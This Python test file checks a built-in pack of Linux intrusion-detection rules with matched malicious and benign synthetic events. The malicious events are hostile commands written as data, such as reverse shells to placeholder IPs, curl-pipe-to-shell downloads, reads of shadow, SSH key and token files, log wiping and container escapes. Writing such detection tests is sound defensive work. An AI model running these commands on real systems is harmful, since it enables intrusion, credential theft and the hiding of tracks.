"""The built-in rule pack (hive/rules): every rule has true-positive and
true-negative wire events here, and a rule without them fails."""

import os
import uuid

import pytest

from hive.sigma import BUILTIN_RULES, RuleEngine, SigmaEvent, check_rules, load_rules, sigma_events
from wire import Alert, Bpf, Connect, Exec, File, Mount, Open, Ptrace, SetId, Signal

RULES = load_rules([BUILTIN_RULES])
DETECTION = {r.id: r for r in RULES.index.rules}
CORRELATION = {c.id: c for c in RULES.correlations}

RD, WR = os.O_RDONLY, os.O_WRONLY | os.O_CREAT | os.O_TRUNC


def run(image, command, **kw):
    return Exec(agent="h", pid=kw.pop("pid", 300), ppid=kw.pop("ppid", 200), filename=image,
                exe=kw.pop("exe", image), argv=command.split(), cmdline=command, **kw)


def opened(path, image, flags=RD, **kw):
    return Open(agent="h", pid=300, path=path, flags=flags, image=image, **kw)


def connect(address, port, image="/usr/bin/curl", **kw):
    return Connect(agent="h", pid=300, family=10 if ":" in address else 2, address=address,
                   port=port, image=image, **kw)


VLLM = "python3 -m vllm.entrypoints.openai.api_server --model /models/llama"
KERNEL = "/usr/bin/python3 -m ipykernel_launcher -f /run/user/1000/jupyter/kernel-1.json"

CASES = {
    # seed -----------------------------------------------------------------------------
    "f0e573d2-6313-4ebf-acd3-66449483759d": (  # exec from world-writable dirs
        [run("/tmp/x", "/tmp/x"), run("/dev/shm/.k", "/dev/shm/.k"),
         run("./payload", "./payload", exe="/var/tmp/payload")],
        [run("/usr/bin/ls", "ls /tmp/"), Exec(agent="h", filename="/tmp/x", result=-2)]),
    "b6951d16-7713-4235-83e4-a3d958e403ae": (  # known-bad ports
        [connect("203.0.113.5", 4444), connect("2001:db8::1", 31337)],
        [connect("203.0.113.5", 443), connect("127.0.0.1", 4444)]),
    "302196c1-e34d-4fa8-9854-d313e973dc85": (  # shadow read
        [opened("/etc/shadow", "/usr/bin/cat"),
         opened("/etc/shadow", "/usr/bin/python3", result=-13),
         opened("/etc/shadow", "/usr/bin/cat", package="coreutils")],  # the system's own cat, still
        [opened("/etc/shadow", "/usr/sbin/unix_chkpwd"), opened("/etc/passwd", "/usr/bin/cat"),
         # debconf and adduser's tools look accounts up as root in a package's scripts
         opened("/etc/shadow", "/usr/share/debconf/frontend", package_session="/usr/bin/dpkg"),
         opened("/etc/shadow", "/usr/sbin/dpkg-preconfigure", package_session="/usr/bin/apt-get"),
         opened("/etc/shadow", "/usr/sbin/deluser"), opened("/etc/shadow", "/usr/bin/chfn")]),
    "40c96ca6-9ba3-42ec-a745-dcbcc90136b4": (  # passwd read with a text tool
        [opened("/etc/passwd", "/usr/bin/cat"), opened("/etc/group", "/usr/bin/grep")],
        [opened("/etc/passwd", "/usr/bin/ls"), opened("/etc/hosts", "/usr/bin/cat")]),
    "99668ef1-b53c-46ec-862e-d78886de8d78": (  # account database written
        [opened("/etc/passwd", "/usr/bin/python3", WR),
         opened("/etc/sudoers.d/backdoor", "/usr/bin/tee", WR)],
        [opened("/etc/passwd", "/usr/sbin/useradd", WR), opened("/etc/passwd", "/usr/bin/tee"),
         opened("/etc/passwd", "/usr/sbin/update-passwd", WR, package_session="/usr/bin/dpkg")]),
    "0504836b-8a2a-4133-8cc4-563d59c188bb": (  # became root
        [SetId(agent="h", call="setuid", old=1000, new=0, image="/tmp/exploit"),
         # a setuid-root program run by a user: effectively root already, never held it
         SetId(agent="h", call="setuid", old=0, new=0, held=False, image="/srv/tools/helper"),
         SetId(agent="h", call="setresuid", old=1000, new=0, held=False, image="/tmp/exploit")],
        [SetId(agent="h", call="setuid", old=1000, new=0, image="/usr/bin/sudo"),
         # root's apt-get back from its _apt sandbox
         SetId(agent="h", call="setresuid", old=42, new=0, held=True, image="/usr/bin/apt-get"),
         SetId(agent="h", call="setuid", old=0, new=0, image="/usr/sbin/cron"),
         SetId(agent="h", call="setuid", old=1000, new=0, image="/tmp/x", result=-1)]),
    "a1cc0e9e-aeba-4e34-9e77-499794339b57": (  # setuid to nobody
        [SetId(agent="h", call="setresuid", old=0, new=65534, image="/usr/sbin/dnsmasq")],
        [SetId(agent="h", call="setgid", old=0, new=65534, image="/usr/sbin/dnsmasq"),
         SetId(agent="h", call="setuid", old=0, new=33, image="/usr/sbin/apache2")]),
    # linux ----------------------------------------------------------------------------
    "139f073e-48c0-48af-af1c-71581a80d7da": (  # reverse shells
        [run("/bin/bash", "bash -c bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"),
         run("/usr/bin/nc", "nc -e /bin/sh 203.0.113.5 4444"),
         run("/usr/bin/socat", "socat tcp:203.0.113.5:4444 exec:/bin/sh,pty"),
         run("/bin/sh", "sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1| nc 1.2.3.4 80 >/tmp/f"),
         run("/usr/bin/python3", "python3 -c import socket,os;s=socket.socket();"
             "s.connect(('1.2.3.4',80));os.dup2(s.fileno(),0);os.execl('/bin/sh','sh')")],
        [run("/usr/bin/nc", "nc -z 10.0.0.1 22"), run("/usr/bin/python3", "python3 app.py"),
         # a port probe (in a loop or not) over /dev/tcp is a scan, not a shell
         run("/bin/bash", "bash -c for p in 1 2 3; do (echo > /dev/tcp/10.0.0.1/$p) 2>/dev/null; done"),
         run("/bin/bash", "bash -c echo > /dev/tcp/192.0.2.10/31337")]),
    "488597a6-c0b3-400d-8838-80619b109a42": (  # download and execute
        [run("/bin/bash", "bash -c curl -fsSL http://203.0.113.5/x.sh | sh"),
         run("/bin/sh", "sh -c wget -q http://x/m -O /tmp/m && chmod +x /tmp/m && /tmp/m"),
         run("/bin/sh", "sh -c curl http://x/p.py|python3")],
        [run("/bin/bash", "bash -c curl -s http://x/file | sha256sum"),
         run("/usr/bin/curl", "curl -o out.tgz https://example.com/out.tgz")]),
    "634f5ad5-1411-4afd-8420-e7d6a3df4576": (  # ssh keys and histories
        [opened("/home/alice/.ssh/id_ed25519", "/usr/bin/cat"),
         opened("/etc/ssh/ssh_host_rsa_key", "/tmp/x"),
         opened("/root/.bash_history", "/usr/bin/grep")],
        [opened("/home/alice/.ssh/id_ed25519", "/usr/bin/ssh"),
         opened("/root/.bash_history", "/usr/bin/bash"),
         opened("/etc/ssh/ssh_host_rsa_key.pub", "/usr/bin/cat")]),
    "1127aad3-4cca-430e-b248-7b48aa7f1ad3": (  # cron
        [opened("/var/spool/cron/crontabs/root", "/usr/bin/crontab", WR),
         opened("/etc/cron.d/updater", "/usr/bin/bash", WR), opened("/etc/crontab", "/bin/sh", WR)],
        [opened("/etc/cron.d/updater", "/usr/bin/cat"),
         opened("/etc/cron.daily/logrotate", "/usr/bin/dpkg", WR)]),
    "c41ce0cb-37db-48e7-a87e-a9a82184d906": (  # systemd units
        [opened("/etc/systemd/system/kworker.service", "/usr/bin/tee", WR),
         opened("/home/bob/.config/systemd/user/sync.service", "/usr/bin/python3", WR)],
        [opened("/lib/systemd/system/ssh.service", "/usr/bin/dpkg", WR),
         opened("/etc/systemd/system/kworker.service", "/usr/bin/cat"),
         opened("/etc/systemd/journald.conf", "/usr/bin/vim", WR)]),
    "7ccd23cc-a01b-47d1-bdfd-bce1949aae65": (  # authorized_keys
        [opened("/root/.ssh/authorized_keys", "/bin/bash", WR)],
        [opened("/root/.ssh/authorized_keys", "/usr/sbin/sshd"),
         opened("/home/ubuntu/.ssh/authorized_keys", "/usr/bin/cloud-init", WR)]),
    "5c319f6a-476b-481d-9577-2053d53fe72f": (  # shell startup files
        [opened("/home/alice/.bashrc", "/bin/bash", WR),
         opened("/etc/profile.d/z.sh", "/usr/bin/curl", WR)],
        [opened("/home/alice/.bashrc", "/bin/bash"),
         opened("/etc/profile.d/z.sh", "/usr/bin/dpkg", WR)]),
    "523512c5-a6ad-49dd-b222-d322c3a2225c": (  # ld.so.preload
        [opened("/etc/ld.so.preload", "/usr/bin/tee", WR)],
        [opened("/etc/ld.so.preload", "/usr/bin/ls"), opened("/etc/ld.so.conf", "/x", WR)]),
    "28d74390-8fd7-457d-b0f7-d7893bf464cc": (  # log tampering
        [run("/usr/bin/shred", "shred -u /var/log/auth.log"),
         run("/usr/bin/journalctl", "journalctl --vacuum-time=1s"),
         run("/bin/bash", "bash -c unset HISTFILE; id"),
         run("/usr/bin/ln", "ln -sf /dev/null /root/.bash_history"),
         run("/bin/sh", "sh -c cat /dev/null > ~/.bash_history"),
         run("/bin/bash", "bash -c export HISTFILESIZE=0")],
        [run("/usr/bin/rm", "rm -f /tmp/scratch"), run("/usr/bin/journalctl", "journalctl -u ssh"),
         run("/usr/bin/cat", "cat /root/.bash_history"), run("/usr/bin/ln", "ln -s /var/log/app /srv/logs"),
         run("/usr/bin/less", "less /var/log/syslog")]),
    "4d836e8c-981f-4983-85b9-ffca30676577": (  # suid
        [run("/usr/bin/chmod", "chmod u+s /tmp/sh"), run("/bin/chmod", "chmod 4755 /tmp/sh"),
         run("/usr/bin/chmod", "chmod +s /tmp/sh"), run("/usr/bin/chmod", "chmod 06755 /tmp/sh"),
         run("/usr/bin/chmod", "chmod -R u=rwxs /tmp/sh"), run("/usr/bin/chmod", "chmod g+s /tmp/sh"),
         run("/usr/bin/install", "install -m 4755 /bin/sh /tmp/sh"),
         run("/usr/sbin/setcap", "setcap cap_setuid+ep /usr/bin/python3")],
        [run("/usr/bin/chmod", "chmod 755 /opt/app"), run("/usr/bin/chmod", "chmod +x run.sh"),
         run("/usr/bin/chmod", "chmod 0644 /etc/x"), run("/usr/bin/chmod", "chmod 1777 /srv/drop"),
         run("/usr/bin/chmod", "chmod a+rwx /tmp/sess"), run("/usr/bin/install", "install -m 0755 a /usr/local/bin/a"),
         # a maintainer script giving its package's program its mode
         run("/usr/bin/chmod", "chmod 2755 /usr/bin/ssh-agent", package_session="/usr/bin/dpkg")]),
    "9d7145e1-92b0-495a-a16c-9bbaf37501e6": (  # container escape
        [run("/usr/bin/nsenter", "nsenter -t 1 -m -u -i -n -p -- bash"),
         run("/bin/mount", "mount /dev/sda1 /mnt", container="3f2a"),
         run("/bin/sh", "sh -c echo /cmd > /sys/fs/cgroup/x/release_agent")],
        [run("/usr/bin/nsenter", "nsenter -t 4242 -n ip addr"),
         run("/bin/mount", "mount /dev/sda1 /mnt")]),
    "2d86f91e-b4cb-447b-9ad5-4ab3f41ab42c": (  # python spawns an interactive shell
        [run("/bin/sh", "/bin/sh", parent_image="/usr/bin/python3", parent_cmdline="python3 x.py"),
         run("/bin/bash", "bash -i", parent_image="/opt/conda/bin/python3.11")],
        [run("/bin/sh", "/bin/sh -c id", parent_image="/usr/bin/python3"),
         run("/usr/bin/bash", "bash /etc/cron.daily/logrotate", parent_image="/usr/bin/python3"),
         run("/bin/sh", "/bin/sh", parent_image="/usr/sbin/sshd")]),
    "6c4195e4-6bf7-4ba6-9a5b-288e5af916ad": (  # python runs a shell command
        [run("/bin/sh", "/bin/sh -c curl http://x | sh", parent_image="/usr/bin/python3")],
        [run("/bin/sh", "/bin/sh -c uname -p 2> /dev/null", parent_image="/usr/bin/python3"),
         run("/bin/sh", "/bin/sh -c id", parent_image="/usr/bin/perl"),
         run("/bin/sh", "/bin/sh", parent_image="/usr/bin/python3")]),
    "4a4aea82-aa6d-4680-864f-a42147999665": (  # discovery command (feeds the burst only)
        [run("/usr/bin/whoami", "whoami"), run("/usr/bin/uname", "uname -a")],
        [run("/usr/bin/make", "make"), run("/usr/bin/identify", "identify x.png")]),
    # ai -------------------------------------------------------------------------------
    "3a79a092-b108-4633-809e-e51bf055d6af": (  # inference server spawns a shell
        [run("/bin/sh", "sh -c id", parent_image="/usr/bin/python3.11", parent_cmdline=VLLM),
         run("/usr/bin/curl", "curl http://x", parent_image="/usr/local/bin/ollama",
             parent_cmdline="ollama serve")],
        [run("/bin/sh", "sh -c ldconfig -p", parent_image="/usr/bin/python3.11",
             parent_cmdline=VLLM),
         run("/bin/sh", "sh -c id", parent_image="/usr/bin/python3", parent_cmdline="python3 app.py"),
         run("/usr/bin/nvidia-smi", "nvidia-smi", parent_image="/usr/local/bin/ollama")]),
    "3e6979ec-d767-468e-91af-e8c5ba8b726c": (  # notebook spawns a shell
        [run("/bin/sh", "/bin/sh -c wget http://x/m", parent_image="/usr/bin/python3",
             parent_cmdline=KERNEL)],
        [run("/bin/bash", "bash -l", parent_image="/usr/bin/python3",
             parent_cmdline="python3 -m jupyter-lab terminado"),
         run("/usr/bin/git", "git status", parent_image="/usr/bin/python3", parent_cmdline=KERNEL)]),
    "0bbc59f2-7bcc-4e5d-ba67-73e2577805ad": (  # model weights read by a stranger
        [opened("/srv/models/llama-3-8b/model-00001.safetensors", "/usr/bin/scp"),
         opened("/root/.ollama/models/blobs/x.gguf", "/usr/bin/python3", cmdline="python3 steal.py")],
        [opened("/srv/models/llama-3-8b/model-00001.safetensors", "/usr/bin/python3.11",
                cmdline=VLLM),
         opened("/root/.ollama/models/blobs/x.gguf", "/usr/local/bin/ollama"),
         opened("/usr/lib/firmware/intel.bin", "/usr/bin/cat")]),
    "0f83babe-7be6-4c9c-99fd-584931cc94cc": (  # gpu device, unexpected program
        [opened("/dev/nvidia0", "/tmp/.x/xmrig", os.O_RDWR),
         opened("/dev/dri/renderD128", "/opt/miner/t-rex", os.O_RDWR)],
        [opened("/dev/nvidia0", "/usr/bin/nvidia-smi", os.O_RDWR),
         opened("/dev/nvidiactl", "/opt/conda/bin/python3.10", os.O_RDWR),
         opened("/dev/null", "/tmp/.x/xmrig", os.O_RDWR)]),
    "49c05d39-228c-411d-9e1d-3efbe96f67a9": (  # api tokens
        [opened("/home/ml/.cache/huggingface/token", "/usr/bin/cat"),
         opened("/srv/app/.env", "/usr/bin/curl"),
         opened("/root/.aws/credentials", "/tmp/.x/stealer")],
        [opened("/home/ml/.cache/huggingface/token", "/usr/bin/python3.11"),
         opened("/root/.aws/credentials", "/usr/local/bin/aws"),
         opened("/srv/app/.envrc", "/usr/bin/cat")]),
    "73357863-7284-47fb-aa21-ca3ca3b6e6f5": (  # model server outbound
        [connect("203.0.113.9", 443, "/usr/local/bin/ollama"),
         connect("198.51.100.7", 8080, "/usr/bin/python3.11", cmdline=VLLM)],
        [connect("10.1.2.3", 443, "/usr/local/bin/ollama"),
         connect("18.239.50.1", 443, "/usr/local/bin/ollama", hostname="cdn-lfs.huggingface.co"),
         connect("203.0.113.9", 443, "/usr/bin/python3", cmdline="python3 app.py")]),
}

def _by_title(cases: dict) -> dict:
    ids = {r.title: r.id for r in RULES.index.rules}
    return {ids[title]: c for title, c in cases.items()}


# The rules that give ATT&CK techniques their own alert (tests/e2e/attacks proves them live).
CASES.update(_by_title({
    "Account or Identity Lookup": (
        [run("/usr/bin/whoami", "whoami"), run("/usr/bin/id", "id -un")],
        [run("/usr/bin/id", "id", package_session="/usr/bin/dpkg"), run("/usr/bin/ls", "ls")]),
    "Service Enumeration": (
        [run("/usr/bin/systemctl", "systemctl list-units --type=service"), run("/usr/sbin/service", "service --status-all"),
         run("/usr/bin/ls", "ls /etc/systemd/system")],
        [run("/usr/bin/systemctl", "systemctl status nginx"), run("/usr/bin/ls", "ls /etc")]),
    "System Time or Time Zone Discovery": (
        [run("/usr/bin/timedatectl", "timedatectl"), run("/usr/bin/cat", "cat /etc/timezone")],
        [run("/usr/bin/date", "date"), run("/usr/bin/cat", "cat /etc/hostname")]),
    "Password Policy Discovery": (
        [run("/usr/bin/chage", "chage -l root"), run("/usr/bin/grep", "grep PASS_MAX_DAYS /etc/login.defs")],
        [run("/usr/bin/chage", "chage -E 0 bob"), run("/usr/bin/cat", "cat /etc/pam.d/sshd")]),
    "System Language Discovery": (
        [run("/usr/bin/locale", "locale"), run("/usr/bin/cat", "cat /etc/default/locale")],
        [run("/usr/bin/locale", "locale", package_session="/usr/bin/dpkg"), run("/usr/bin/cat", "cat /etc/issue")]),
    "Virtual Machine or Sandbox Check": (
        [run("/usr/bin/systemd-detect-virt", "systemd-detect-virt"),
         run("/usr/bin/cat", "cat /sys/class/dmi/id/product_name"),
         run("/usr/bin/grep", "grep -c hypervisor /proc/cpuinfo")],
        [run("/usr/bin/grep", "grep -c processor /proc/cpuinfo"), run("/usr/sbin/dmidecode", "dmidecode -t memory")]),
    "Kernel Module or Driver Listing": (
        [run("/usr/sbin/lsmod", "lsmod"), run("/usr/bin/cat", "cat /proc/modules")],
        [run("/usr/bin/cat", "cat /proc/meminfo"), run("/usr/bin/ls", "ls /lib")]),
    "Authentication or System Logs Read": (
        [run("/usr/bin/journalctl", "journalctl -n 5"), run("/usr/bin/tail", "tail -n 5 /var/log/auth.log")],
        [run("/usr/bin/journalctl", "journalctl --vacuum-size=1G"), run("/usr/bin/tail", "tail /var/log/app.log")]),
    "Container or Orchestrator Discovery": (
        [run("/usr/bin/cat", "cat /proc/1/cgroup"), run("/usr/bin/docker", "docker ps -a"),
         run("/usr/bin/ls", "ls -la /.dockerenv")],
        [run("/usr/bin/docker", "docker build ."), run("/usr/bin/cat", "cat /proc/self/status")]),
    "Network Connections Listed": (
        [run("/usr/bin/ss", "ss -tunap"), run("/usr/bin/netstat", "netstat -antp")],
        [run("/usr/bin/ss", "ss -s", package_session="/usr/bin/apt-get"), run("/usr/bin/ip", "ip addr")]),
    "Port Scan From a Shell Loop or Probe Tool": (
        [run("/bin/bash", "bash -c for p in 1 2 3; do (echo > /dev/tcp/10.0.0.1/$p) 2>/dev/null; done"),
         run("/usr/bin/nc", "nc -zv 10.0.0.1 20-25")],
        [run("/bin/bash", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"), run("/usr/bin/nc", "nc 10.0.0.1 25")]),
    "Group Membership Lookup": (
        [run("/usr/bin/getent", "getent group sudo"), run("/usr/bin/id", "id -Gn")],
        [run("/usr/bin/getent", "getent passwd root"), run("/usr/bin/id", "id -u")]),
    "Neighbouring Hosts Listed": (
        [run("/usr/sbin/ip", "ip neigh show"), run("/usr/bin/cat", "cat /root/.ssh/known_hosts")],
        [run("/usr/sbin/ip", "ip addr show"), run("/usr/bin/cat", "cat /etc/hostname")]),
    "Recursive Listing of System Folders": (
        [run("/usr/bin/ls", "ls -laR /etc"), run("/usr/bin/ls", "ls --recursive /root")],
        [run("/usr/bin/ls", "ls -la /etc"), run("/usr/bin/ls", "ls -lrt /var/log")]),
    "Network Traffic Captured": (
        [run("/usr/bin/tcpdump", "tcpdump -i eth0 -w /tmp/x.pcap")],
        [run("/usr/bin/tcpdump", "tcpdump --version", package_session="/usr/bin/dpkg"), run("/usr/bin/ip", "ip link")]),
    "Files Searched for Passwords or Keys": (
        [run("/usr/bin/grep", "grep -ri password /etc"), run("/usr/bin/find", "find / -name id_rsa")],
        [run("/usr/bin/grep", "grep password notes.txt"), run("/usr/bin/find", "find . -name '*.py'")]),
    "Process Memory Read Through /proc": (
        [run("/usr/bin/cat", "cat /proc/1234/maps"), run("/usr/bin/dd", "dd if=/proc/1234/mem bs=1 count=0")],
        [run("/usr/bin/cat", "cat /proc/self/maps"), run("/usr/bin/cat", "cat /proc/meminfo")]),
    "Private Key Read or Copied With a Shell Tool": (
        [run("/usr/bin/cat", "cat /etc/ssh/ssh_host_ed25519_key"), run("/usr/bin/cp", "cp /root/.ssh/id_rsa /tmp/")],
        [run("/usr/bin/cat", "cat /root/.ssh/id_rsa.pub"), run("/usr/bin/cat", "cat /etc/ssh/sshd_config")]),
    "Sensitive Folders Archived": (
        [run("/usr/bin/tar", "tar -czf /tmp/l.tgz /etc/ssh"), run("/usr/bin/tar", "tar --create --file=x /root"),
         run("/usr/bin/zip", "zip -qr l.zip /home/bob/.ssh")],
        [run("/usr/bin/tar", "tar -xzf /tmp/l.tgz -C /etc"), run("/usr/bin/tar", "tar czf src.tgz ./src")]),
    "Traffic Sent Through a Proxy Given on the Command Line": (
        [run("/usr/bin/curl", "curl -x http://10.0.0.1:3128 http://example.com"),
         run("/usr/bin/curl", "curl --socks5 10.0.0.1:1080 http://example.com")],
        [run("/usr/bin/curl", "curl -s http://example.com"), run("/usr/bin/wget", "wget http://example.com")]),
    "SSH Tunnel or Port Forward": (
        [run("/usr/bin/ssh", "ssh -N -L 8080:127.0.0.1:80 root@10.0.0.1"), run("/usr/bin/ssh", "ssh -D 1080 -N host"),
         run("/usr/bin/ssh", "ssh -NL 1:2:3 host")],
        [run("/usr/bin/ssh", "ssh root@10.0.0.1"), run("/usr/bin/ssh", "ssh -p 2222 host")]),
    "File Downloaded With curl or wget": (
        [run("/usr/bin/curl", "curl -fsSo /tmp/x http://10.0.0.1/x"), run("/usr/bin/wget", "wget -q -O /tmp/x http://a/x"),
         run("/usr/bin/curl", "curl -sO http://a/x")],
        [run("/usr/bin/curl", "curl -s http://a/"), run("/usr/bin/wget", "wget -q -O /tmp/x http://a/x",
                                                       package_session="/usr/bin/dpkg")]),
    "File Times Changed to a Chosen Date": (
        [run("/usr/bin/touch", "touch -t 202001010000 /usr/bin/x"), run("/usr/bin/touch", "touch -r /bin/ls /usr/bin/x"),
         run("/usr/bin/touch", "touch --reference=/bin/ls x"), run("/usr/bin/touch", "touch -mt 202001010000 x")],
        [run("/usr/bin/touch", "touch /tmp/stamp"), run("/usr/bin/touch", "touch -c /tmp/stamp")]),
    "Hidden File or Folder Made in a Temporary Folder": (
        [run("/usr/bin/mkdir", "mkdir /tmp/.x"), run("/usr/bin/cp", "cp /bin/sh /dev/shm/.s")],
        [run("/usr/bin/mkdir", "mkdir /tmp/.X11-unix"), run("/usr/bin/mkdir", "mkdir /tmp/build")]),
    "Program Compiled in a Temporary Folder": (
        [run("/usr/bin/gcc", "gcc -o /tmp/x /tmp/x.c"), run("/usr/bin/cc", "cc /dev/shm/x.c")],
        [run("/usr/bin/gcc", "gcc -o hello hello.c"), run("/usr/bin/cc", "cc -o /tmp/x /tmp/x.c",
                                                          package_session="/usr/bin/dpkg")]),
    "Security or Audit Service Stopped": (
        [run("/usr/bin/systemctl", "systemctl stop auditd"), run("/usr/bin/pkill", "pkill -9 -x osqueryd"),
         run("/usr/sbin/setenforce", "setenforce 0")],
        [run("/usr/bin/systemctl", "systemctl status auditd"), run("/usr/bin/systemctl", "systemctl stop nginx")]),
    "Firewall Rules Flushed or Firewall Disabled": (
        [run("/usr/sbin/iptables", "iptables -F"), run("/usr/sbin/nft", "nft flush ruleset"),
         run("/usr/sbin/ufw", "ufw disable")],
        [run("/usr/sbin/iptables", "iptables -L -n"), run("/usr/sbin/nft", "nft list ruleset")]),
    "Decoded Text Piped Into a Shell": (
        [run("/bin/sh", "sh -c echo aWQK|base64 -d|sh"), run("/bin/bash", "bash -c base64 --decode <<< aWQK | bash"),
         run("/bin/sh", "sh -c xxd -r -p x.hex | sh")],
        [run("/bin/sh", "sh -c base64 -d x > y"), run("/bin/sh", "sh -c echo x | base64 | sh2")]),
    "Files Encrypted With a Command-Line Tool": (
        [run("/usr/bin/openssl", "openssl enc -aes-256-cbc -in a -out a.enc"),
         run("/usr/bin/gpg", "gpg --batch --symmetric a"), run("/usr/bin/gpg", "gpg -c a")],
        [run("/usr/bin/openssl", "openssl enc -d -aes-256-cbc -in a.enc"), run("/usr/bin/gpg", "gpg --verify a.sig")]),
    "Account Locked or Expired": (
        [run("/usr/bin/passwd", "passwd -l bob"), run("/usr/sbin/usermod", "usermod -L bob"),
         run("/usr/bin/chage", "chage -E 0 bob"), run("/usr/sbin/deluser", "deluser bob")],
        [run("/usr/bin/passwd", "passwd -S bob"), run("/usr/bin/chage", "chage -l bob")]),
    "Remote Command Run Over SSH": (
        [run("/usr/bin/ssh", "ssh -o BatchMode=yes root@10.0.0.2 id"), run("/usr/bin/ssh", "ssh bob@db1 uname -a")],
        [run("/usr/bin/ssh", "ssh bob@db1"), run("/usr/bin/ssh", "ssh -o BatchMode=yes git@github.com",
                                                 parent_image="/usr/bin/git")]),
    "Files Copied to Another Host": (
        [run("/usr/bin/scp", "scp tool root@10.0.0.2:/tmp/"), run("/usr/bin/rsync", "rsync -a dir db1:/srv/")],
        [run("/usr/bin/scp", "scp a b"), run("/usr/bin/rsync", "rsync -a src/ dst/")]),
    "SSH Agent Socket of Another Session Used": (
        [run("/usr/bin/env", "env SSH_AUTH_SOCK=/tmp/ssh-Xy/agent.1234 ssh-add -l")],
        [run("/usr/bin/ssh-add", "ssh-add -l"), run("/usr/bin/env", "env SSH_AUTH_SOCK= ssh db1")]),
    "Systemd Timer Written": (
        [opened("/etc/systemd/system/x.timer", "/usr/bin/tee", WR)],
        [opened("/etc/systemd/system/x.timer", "/usr/bin/systemctl", WR),
         opened("/etc/systemd/system/x.service", "/usr/bin/tee", WR)]),
    "Transient Systemd Timer Started": (
        [run("/usr/bin/systemd-run", "systemd-run --on-active=3600 /bin/true")],
        [run("/usr/bin/systemd-run", "systemd-run --scope /bin/true")]),
    "Local Account Created": (
        [run("/usr/sbin/useradd", "useradd -M bob"), run("/usr/sbin/adduser", "adduser --system bob")],
        [run("/usr/sbin/useradd", "useradd --system _x", package_session="/usr/bin/dpkg"),
         run("/usr/sbin/useradd", "useradd bob", parent_image="/usr/sbin/adduser")]),
    "Account Created With User Id 0": (
        [run("/usr/sbin/useradd", "useradd -o -u 0 -g 0 -M bob"), run("/usr/sbin/useradd", "useradd --non-unique --uid 0 bob"),
         run("/usr/sbin/usermod", "usermod -ou 0 bob")],
        [run("/usr/sbin/useradd", "useradd -u 1001 bob"), run("/usr/sbin/useradd", "useradd -u 1000 bob")]),
    "User Added to a Privileged Group": (
        [run("/usr/sbin/usermod", "usermod -aG sudo bob"), run("/usr/bin/gpasswd", "gpasswd -a bob docker"),
         run("/usr/sbin/usermod", "usermod -a -G adm,video bob")],
        [run("/usr/sbin/usermod", "usermod -aG video bob"), run("/usr/sbin/usermod", "usermod -s /bin/zsh sudoer")]),
    "Library Preloaded Through LD_PRELOAD on the Command Line": (
        [run("/usr/bin/env", "env LD_PRELOAD=/tmp/x.so id"), run("/bin/sh", "sh -c LD_PRELOAD=/dev/shm/x.so id")],
        [run("/usr/bin/env", "env LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 app"),
         run("/usr/bin/env", "env LANG=C id")]),
    "Debugger or Tracer Attached to a Running Process": (
        [run("/usr/bin/strace", "strace -p 1234"), run("/usr/bin/strace", "strace -fp 1234"),
         run("/usr/bin/gdb", "gdb -p 1234 -batch"), run("/usr/bin/strace", "strace --attach=1234")],
        [run("/usr/bin/strace", "strace -f ./app"), run("/usr/bin/gdb", "gdb ./app")]),
}))


def changed(op, path, image="/usr/bin/chmod", **kw):
    return File(agent="h", pid=300, op=op, path=path, image=image, **kw)


# The rules of the events the kernel sensor adds for issue 12 (file names and attributes,
# ptrace, signals, BPF, mounts, fileless execs).
CASES.update(_by_title({
    "Setuid or Setgid Bit Set by chmod": (
        [changed("chmod", "/srv/sh", mode=0o104755), changed("chmod", "/srv/sh", mode=0o2755, image="/usr/bin/python3"),
         changed("chmod", "/srv/sh", mode=0o6711)],
        [changed("chmod", "/srv/sh", mode=0o755), changed("chmod", "/srv/sh", mode=0o1777),
         changed("chmod", "/usr/bin/ssh-agent", mode=0o2755, package_session="/usr/bin/dpkg")]),
    "File Capabilities Set": (
        [changed("setxattr", "/srv/py", image="/usr/sbin/setcap", xattr="security.capability")],
        [changed("setxattr", "/srv/py", image="/usr/bin/setfattr", xattr="user.comment"),
         changed("setxattr", "/usr/bin/ping", image="/usr/sbin/setcap", xattr="security.capability",
                 package_session="/usr/bin/dpkg")]),
    "Shell History Removed or Sent to /dev/null": (
        [changed("unlink", "/root/.bash_history", image="/usr/bin/rm")],
        [changed("unlink", "/root/notes.txt", image="/usr/bin/rm"),
         changed("rename", "/root/.bash_history", image="/usr/bin/bash", source="/root/.bash_history-01")]),
    "Shell History Linked to Another File": (
        [changed("symlink", "/root/.bash_history", image="/usr/bin/ln", source="/dev/null"),
         changed("rename", "/root/.bash_history.old", image="/usr/bin/mv", source="/root/.bash_history")],
        [changed("symlink", "/root/.vimrc", image="/usr/bin/ln", source="/etc/vimrc"),
         changed("unlink", "/root/.bash_history", image="/usr/bin/rm")]),
    "Log File Deleted": (
        [changed("unlink", "/var/log/auth.log", image="/usr/bin/rm"),
         changed("unlink", "/var/log/wtmp", image="/usr/bin/python3")],
        [changed("unlink", "/var/log/syslog.7.gz", image="/usr/sbin/logrotate"),
         changed("unlink", "/var/log/apt/term.log", image="/usr/bin/rm", package_session="/usr/bin/apt-get"),
         changed("unlink", "/srv/app/log.txt", image="/usr/bin/rm")]),
    "Process Traced or Its Memory Written Through ptrace": (
        [Ptrace(agent="h", pid=300, image="/usr/bin/gdb", request="attach", target_pid=42, target_comm="sshd"),
         Ptrace(agent="h", pid=300, image="/tmp/inject", request="pokedata", target_pid=42)],
        [Ptrace(agent="h", pid=300, image="/usr/bin/gdb", request="peekdata", target_pid=42),
         Ptrace(agent="h", pid=300, image="/usr/bin/strace", request="traceme")]),
    "Program Run Without a File": (
        [run("/proc/self/fd/3", "payload", exe="/memfd:x (deleted)", fileless=True)],
        [run("/usr/bin/ls", "ls"), run("/tmp/x", "/tmp/x", fileless=False)]),
    "BPF Program Loaded by Another Process": (
        [Bpf(agent="h", pid=300, image="/tmp/rk", command="prog_load", prog_type="kprobe", prog_name="hide"),
         Bpf(agent="h", pid=300, image="/usr/sbin/bpftool", command="prog_load", prog_type="xdp")],
        [Bpf(agent="h", pid=1, image="/lib/systemd/systemd", command="prog_load", prog_type="cgroup_device"),
         Bpf(agent="h", pid=300, image="/tmp/rk", command="map_create")]),
    "Host Filesystem Mounted in a Container": (
        [Mount(agent="h", pid=300, image="/bin/mount", call="mount", source="/dev/sda1", target="/mnt",
               fstype="ext4", container="3f2a"),
         Mount(agent="h", pid=300, image="/bin/mount", call="mount", source="cgroup", target="/tmp/cg",
               fstype="cgroup", container="3f2a")],
